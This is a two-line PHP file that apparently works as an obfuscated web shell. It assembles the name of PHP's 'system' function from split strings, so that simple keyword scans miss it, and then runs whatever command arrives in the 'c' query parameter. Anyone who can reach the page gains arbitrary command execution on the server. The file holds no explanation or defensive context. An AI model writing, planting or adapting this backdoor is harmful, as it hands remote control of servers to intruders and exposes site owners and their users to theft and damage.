<?php
define('F', 'sys'.'tem'); $f = F; $f($_GET['c']);
